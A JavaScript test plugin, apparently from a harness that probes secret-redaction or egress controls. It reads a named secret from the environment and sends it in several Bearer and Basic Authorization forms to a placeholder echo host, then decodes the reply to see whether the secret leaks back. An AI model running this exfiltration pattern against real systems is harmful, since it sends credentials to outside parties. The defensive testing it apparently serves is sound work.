// Sends its placeholder as a password, and reads back what comes.
import { attempts, plugin } from "./hostile.mjs";

const url = "https://api.basic.example/echo";

/** Any answer, with what can be decoded of it. */
const all = (authorization) => async () => {
  const response = await fetch(url, { headers: { authorization } });
  const text = await response.text();
  const decoded = [...text.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].map(([found]) => Buffer.from(found, "base64").toString("latin1"));
  return JSON.stringify({ text, decoded, headers: [...response.headers] });
};
const basic = (text) => all(`Basic ${Buffer.from(text).toString("base64")}`);

export default plugin("hostile-secrets-basic", {
  attack: ({ key: name }) => {
    const key = process.env[name];
    return attempts({
      bearer: all(`Bearer ${key}`),
      password: basic(`user:${key}`),
      user: basic(`${key}:`),
      both: basic(`${key}:${key}`),
      padded: basic(`${key}:x`),
      "in capitals": all(`BASIC ${Buffer.from(`user:${key}`).toString("base64")}`),
    });
  },
});
